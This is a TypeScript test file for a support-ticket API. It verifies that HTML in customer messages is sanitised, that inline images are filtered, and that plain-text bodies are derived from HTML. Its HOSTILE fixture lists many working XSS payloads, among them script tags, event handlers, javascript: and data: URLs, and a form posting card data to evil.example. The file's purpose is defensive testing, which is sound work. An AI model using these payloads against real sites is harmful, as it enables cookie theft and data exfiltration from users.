import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createTestApp, uniqueEmail, type TestAccount, type TestApp } from '../helpers/harness.js';

interface MessageJson {
  id: string;
  body: string;
  bodyFull: string;
  html: string | null;
  language: string;
}

interface ConversationJson {
  id: string;
  language: string;
  messages: MessageJson[];
}

let t: TestApp;

before(async () => {
  t = await createTestApp();
});

after(async () => {
  await t.close();
});

async function createWithHtml(acc: TestAccount, message: { body: string; html?: string }): Promise<ConversationJson> {
  const res = await t.app.inject({
    method: 'POST',
    url: '/api/v1/conversations',
    headers: acc.auth,
    payload: { subject: 'Formatted message', customer: { email: uniqueEmail('html') }, message },
  });
  assert.equal(res.statusCode, 201, res.body);
  const created = res.json<ConversationJson>();
  // Always judge what is stored and served later, not only the create response.
  const stored = await t.app.inject({ method: 'GET', url: `/api/v1/conversations/${created.id}`, headers: acc.auth });
  assert.equal(stored.statusCode, 200, stored.body);
  const conversation = stored.json<ConversationJson>();
  assert.equal(conversation.messages[0]!.html, created.messages[0]!.html, 'the create response shows the stored html');
  return conversation;
}

const HOSTILE = `
<p>Hello <b>support</b>, <i>my</i> order <strong>#1234</strong> is late.</p>
<p>See <a href="https://shop.example/orders/1234">my order page</a>.</p>
<script>alert('xss')</script>
<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>
<img src="x" onerror="alert(1)">
<div onclick="steal()">Click me</div>
<a href="javascript:alert(document.cookie)">Free voucher</a>
<a href="  JaVaScRiPt:alert(2)">Another voucher</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Data link</a>
<img src="http://evil.example/x.png" alt="tracking pixel">
<p style="width: expression(alert(1)); color: red">Styled paragraph</p>
<style>body { background: url("https://evil.example/bg.png"); width: expression(alert(2)); }</style>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/collect" method="post"><input name="card" value="4111"><button>Pay</button></form>
<object data="https://evil.example/flash.swf"></object><embed src="https://evil.example/flash.swf">
<img src="data:text/html,<script>alert(3)</script>">
<iframe src="data:text/html,<script>alert(4)</script>"></iframe>
<svg onload="alert(5)"><circle r="10"></circle></svg>
<svg><script>alert(6)</script></svg>
<body onload="alert(7)"><math><mi xlink:href="javascript:alert(8)">x</mi></math></body>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/style.css">
<ul><li>First item</li><li>Second item</li></ul>
<p>Thanks, <em>Ana</em></p>
`;

describe('customer HTML is sanitised before it is stored', () => {
  test('scripts, handlers, javascript: and data: URLs, styles, frames, forms and remote images are removed', async () => {
    const acc = await t.newAccount();
    const conversation = await createWithHtml(acc, { body: 'Hello support, my order #1234 is late.', html: HOSTILE });
    const html = conversation.messages[0]!.html;
    assert.ok(html, 'the sanitised html is kept');
    const lower = html.toLowerCase();
    for (const forbidden of [
      '<script',
      'alert(',
      'onerror',
      'onclick',
      'onload',
      'javascript:',
      'expression(',
      '<style',
      'style=',
      '<iframe',
      '<form',
      '<input',
      '<button',
      '<object',
      '<embed',
      '<svg',
      '<math',
      '<base',
      '<meta',
      '<link',
      'text/html',
      'evil.example/x.js',
      'evil.example/bg.png',
      'evil.example/frame',
      'evil.example/collect',
      'evil.example/style.css',
    ]) {
      assert.ok(!lower.includes(forbidden), `stored html must not contain ${forbidden}: ${html}`);
    }

    // The remote image is not loaded: its address survives only as data-remote-src, never as src.
    assert.doesNotMatch(html, /\ssrc\s*=\s*["']?https?:\/\/evil\.example\/x\.png/i);
    for (const match of html.matchAll(/https?:\/\/evil\.example\/x\.png/gi)) {
      const before = html.slice(0, match.index);
      assert.match(before, /data-remote-src="$/, `the remote image address appears only in data-remote-src: ${html}`);
    }
    assert.ok(html.includes('data-remote-src="http://evil.example/x.png"'), html);

    // Benign formatting survives.
    assert.match(html, /<p>Hello <b>support<\/b>, <i>my<\/i> order <strong>#1234<\/strong> is late\.<\/p>/);
    assert.match(html, /<a href="https:\/\/shop\.example\/orders\/1234"[^>]*>my order page<\/a>/);
    assert.match(html, /<ul><li>First item<\/li><li>Second item<\/li><\/ul>/);
    assert.match(html, /<em>Ana<\/em>/);
    assert.match(html, /Styled paragraph/, 'the text of a styled paragraph stays, without its style');
    assert.match(html, /Free voucher/, 'the text of a dangerous link stays, without its href');

    // Links open safely in a new tab.
    const safeLink = /<a [^>]*href="https:\/\/shop\.example\/orders\/1234"[^>]*>/.exec(html)![0];
    assert.match(safeLink, /rel="[^"]*noopener[^"]*"/);

    // The plain body is what the customer typed and is not affected.
    assert.equal(conversation.messages[0]!.body, 'Hello support, my order #1234 is late.');
  });

  test('embedded images stay only when they are images: cid: and data:image/png remain, data:image/svg+xml does not', async () => {
    const acc = await t.newAccount();
    const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
    const svg = 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+';
    const conversation = await createWithHtml(acc, {
      body: 'Photos attached.',
      html: `<p>Photos:</p><img src="cid:photo1@example" alt="inline"><img src="${png}" alt="pixel"><img src="${svg}" alt="svg">`,
    });
    const html = conversation.messages[0]!.html!;
    assert.ok(html.includes('src="cid:photo1@example"'), html);
    assert.ok(html.includes(`src="${png}"`), html);
    assert.ok(!html.includes('image/svg+xml'), html);
  });

  test('an HTML-only message (empty body) gets a plain-text body derived from the HTML', async () => {
    const acc = await t.newAccount();
    const conversation = await createWithHtml(acc, {
      body: '',
      html: '<div><p>Hello, <b>my</b> order has not arrived yet.</p><script>alert(1)</script><p>Could you <a href="https://shop.example/track">check it</a>, please?</p></div>',
    });
    const m = conversation.messages[0]!;
    assert.ok(m.html && !m.html.includes('<script'), String(m.html));
    assert.notEqual(m.body.trim(), '', 'the body is not empty');
    assert.match(m.body, /my order has not arrived yet\./);
    assert.match(m.body, /Could you check it, please\?/);
    assert.doesNotMatch(m.body, /[<>]/, 'the body is plain text, not markup');
    assert.doesNotMatch(m.body, /alert/, 'script content does not leak into the text');
    assert.equal(m.bodyFull.trim() === '' ? 'empty' : 'filled', 'filled', 'bodyFull is not empty either');
    assert.equal(conversation.language, 'en', 'the language is detected from the derived text');

    // The derived text is searchable like any body.
    const res = await t.app.inject({ method: 'GET', url: '/api/v1/search?q=arrived', headers: acc.auth });
    assert.equal(res.statusCode, 200, res.body);
    assert.ok(
      res.json<{ items: Array<{ conversationId: string; kind: string }> }>().items.some((h) => h.conversationId === conversation.id && h.kind === 'message'),
      res.body,
    );
  });

  test('a message with neither text nor HTML is refused naming message.body', async () => {
    const acc = await t.newAccount();
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/v1/conversations',
      headers: acc.auth,
      payload: { subject: 'Empty', customer: { email: uniqueEmail('empty') }, message: { body: '   ' } },
    });
    assert.equal(res.statusCode, 400, res.body);
    assert.match(res.json<{ error: { message: string } }>().error.message, /message\.body/);
  });
});
